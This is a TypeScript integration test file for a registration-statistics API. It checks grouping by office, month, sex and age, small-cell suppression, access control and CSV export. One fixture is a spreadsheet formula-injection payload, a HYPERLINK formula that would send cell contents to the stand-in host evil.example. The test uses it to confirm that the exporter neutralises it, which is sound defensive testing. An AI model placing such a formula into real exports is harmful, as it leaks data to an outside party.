/** GET /api/v1/stats/registrations(.csv) against a real PostgreSQL cluster, data ingested through the batch route. */
import { beforeAll, describe, expect, it } from 'vitest';
import type { BatchRecordInput } from '@lmc/protocol/batch.ts';
import { useCentralOnPg } from './central-on-pg.ts';
import { makeDevice, makeRecord, sendBatch } from './fixtures.ts';
import { addStaff, signIn, TEST_AUTH } from './staff.ts';

const bbr = makeDevice('bbr-01', 'BBR');
const hre = makeDevice('hre-01', 'HRE');

let admin: string;
let statistician: string;
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Gwanda")';

const times = (n: number, f: (i: number) => BatchRecordInput) => Array.from({ length: n }, (_, i) => f(i));

const central = useCentralOnPg({ devices: [bbr.config, hre.config], auth: TEST_AUTH }, async (db) => {
  await addStaff(db, 'stats-admin', 'admin');
  await addStaff(db, 'stats-statistician', 'statistician');
});

beforeAll(async () => {
  admin = await signIn(central.app, 'stats-admin');
  statistician = await signIn(central.app, 'stats-statistician');
  // BBR March: 7 (3 returning; 4 men, 3 women aged 28 at finalisation).
  const bbrMarch = times(7, (i) =>
    makeRecord('BBR', { returning: i < 3, sex: i < 4 ? 'M' : 'F', birthDate: i < 4 ? '1980-06-01' : '1996-04-02' }, '2025-03-10T09:30:00+02:00'),
  );
  // BBR April: 3, one of them from a district whose name needs CSV quoting.
  const bbrApril = times(3, (i) =>
    makeRecord('BBR', { districtOfOrigin: i === 0 ? 'Mangwe, "Plumtree"' : 'Gwanda' }, '2025-04-02T08:00:00+02:00'),
  );
  // HRE March: 6, none returning, one from a "district" a spreadsheet would run as a formula.
  // Plus one at 23:30 UTC on 31 March = 01:30 on 1 April in Harare.
  const hreMarch = times(6, (i) => makeRecord('HRE', i === 0 ? { districtOfOrigin: HYPERLINK } : {}, '2025-03-15T12:00:00+02:00'));
  const hreBoundary = makeRecord('HRE', {}, '2025-03-31T23:30:00Z');
  for (const [dev, records] of [
    [bbr, [...bbrMarch, ...bbrApril]],
    [hre, [...hreMarch, hreBoundary]],
  ] as const) {
    const { json } = await sendBatch(central.app, dev, [...records]);
    expect(json().stored).toHaveLength(records.length);
  }
});

/** As the admin, unsuppressed unless the query asks for publication; as anyone else, as asked. */
async function stats(query: string, cookie = admin) {
  const microdata = cookie !== admin || /publication=/.test(query) ? '' : '&publication=false';
  return central.app.inject({ method: 'GET', url: `/api/v1/stats/registrations?${query}${microdata}`, headers: { cookie } });
}

describe('registration statistics', () => {
  it('counts by office and local month, returning migrants in their own column', async () => {
    const res = await stats('groupBy=office,month');
    expect(res.statusCode).toBe(200);
    expect(res.json().rows).toEqual([
      { office: 'BBR', month: '2025-03', count: 7, returning: 3, suppressed: false, returningSuppressed: false },
      { office: 'BBR', month: '2025-04', count: 3, returning: 0, suppressed: false, returningSuppressed: false },
      { office: 'HRE', month: '2025-03', count: 6, returning: 0, suppressed: false, returningSuppressed: false },
      // 2025-03-31T23:30Z is April in Zimbabwe (UTC+2).
      { office: 'HRE', month: '2025-04', count: 1, returning: 0, suppressed: false, returningSuppressed: false },
    ]);
  });

  it('publishes by default for a statistician: small cells hidden, and their partners too, so office totals give nothing away', async () => {
    const res = await stats('groupBy=office,month&year=2025', statistician);
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ publication: true, threshold: 5, year: 2025 });
    // April's 3 (BBR) and 1 (HRE) are under 5; BBR's total (10) and HRE's (7) are published by
    // groupBy=office, so March's 7 and 6 must go too, or 10 − 7 and 7 − 6 would give them back.
    expect(res.json().rows).toEqual([
      { office: 'BBR', month: '2025-03', count: null, returning: null, suppressed: true, returningSuppressed: true },
      { office: 'BBR', month: '2025-04', count: null, returning: null, suppressed: true, returningSuppressed: true },
      { office: 'HRE', month: '2025-03', count: null, returning: null, suppressed: true, returningSuppressed: true },
      { office: 'HRE', month: '2025-04', count: null, returning: null, suppressed: true, returningSuppressed: true },
    ]);
    const byOffice = await stats('groupBy=office&year=2025', statistician);
    expect(byOffice.json().rows.map((r: Record<string, unknown>) => [r.office, r.count, r.returning])).toEqual([
      // BBR: 3 returning, 7 first-time; HRE: 0 returning.
      ['BBR', 10, null],
      ['HRE', 7, 0],
    ]);
  });

  it('gives unsuppressed counts only to an admin who asks for them, and published tables only for one calendar year', async () => {
    const microdata = await stats('groupBy=office&publication=false', statistician);
    expect(microdata.statusCode).toBe(403);
    expect(microdata.json().code).toBe('STATS_MICRODATA_FORBIDDEN');
    for (const q of ['groupBy=office', 'groupBy=office&from=2025-01-01&to=2025-06-30', 'groupBy=office&year=2025&from=2025-01-01']) {
      const res = await stats(q, statistician);
      expect(res.statusCode, q).toBe(400);
      expect(res.json().code, q).toBe('REQUEST_INVALID');
    }
    expect((await stats('groupBy=office&year=2025&publication=true', admin)).json().rows[0]).toMatchObject({ office: 'BBR', count: 10 });
  });

  it('groups by sex and five-year age group at finalisation', async () => {
    const res = await stats('groupBy=sex,ageGroup&to=2025-03-31');
    // Men born 1980-06-01 are 44 on 2025-03-10; women born 1996-04-02 are 28.
    expect(res.json().rows.map((r: Record<string, unknown>) => [r.sex, r.ageGroup, r.count])).toEqual([
      ['F', '25-29', 9],
      ['M', '40-44', 4],
    ]);
  });

  it('filters by inclusive local dates', async () => {
    const res = await stats('groupBy=office&from=2025-04-01&to=2025-04-30');
    expect(res.json().rows.map((r: Record<string, unknown>) => [r.office, r.count])).toEqual([
      ['BBR', 3],
      ['HRE', 1],
    ]);
  });

  it('gives one total row without groupBy', async () => {
    const res = await stats('');
    expect(res.json().rows).toEqual([{ count: 17, returning: 3, suppressed: false, returningSuppressed: false }]);
  });

  it('rejects an unknown dimension, a repeated one and an inverted range with 400 REQUEST_INVALID', async () => {
    for (const q of ['groupBy=office,salary', 'groupBy=office,office', 'from=2025-05-01&to=2025-04-01', 'from=yesterday', 'from=2025-02-30', 'year=1999']) {
      const res = await stats(q);
      expect(res.statusCode, q).toBe(400);
      expect(res.json().code, q).toBe('REQUEST_INVALID');
    }
  });
});

describe('registration statistics as CSV', () => {
  it('exports the published table with suppressed cells empty', async () => {
    const res = await central.app.inject({ method: 'GET', url: '/api/v1/stats/registrations.csv?groupBy=office&year=2025', headers: { cookie: statistician } });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.body).toBe('office,count,returning,suppressed,returningSuppressed\r\nBBR,10,,false,true\r\nHRE,7,0,false,false\r\n');
  });

  it('refuses the CSV without a session', async () => {
    const res = await central.app.inject({ method: 'GET', url: '/api/v1/stats/registrations.csv?groupBy=office&year=2025' });
    expect(res.statusCode).toBe(401);
    expect(res.body).not.toMatch(/BBR/);
  });

  it('neutralises a district a spreadsheet would run as a formula', async () => {
    const res = await central.app.inject({
      method: 'GET',
      url: '/api/v1/stats/registrations.csv?groupBy=district&from=2025-03-15&to=2025-03-15&publication=false',
      headers: { cookie: admin },
    });
    const [header, ...lines] = res.body.split('\r\n');
    expect(header).toBe('district,count,returning,suppressed,returningSuppressed');
    // Row order follows the cluster's collation; the content does not.
    expect(lines.sort()).toEqual(['', `"'${HYPERLINK.replace(/"/g, '""')}",1,0,false,false`, 'Gwanda,5,0,false,false'].sort());
  });

  it('quotes fields holding commas and quotes per RFC 4180', async () => {
    const res = await central.app.inject({
      method: 'GET',
      url: '/api/v1/stats/registrations.csv?groupBy=district&from=2025-04-01&to=2025-04-30&publication=false',
      headers: { cookie: admin },
    });
    expect(res.body).toBe(
      'district,count,returning,suppressed,returningSuppressed\r\n' +
        'Gwanda,3,0,false,false\r\n' +
        '"Mangwe, ""Plumtree""",1,0,false,false\r\n',
    );
  });
});
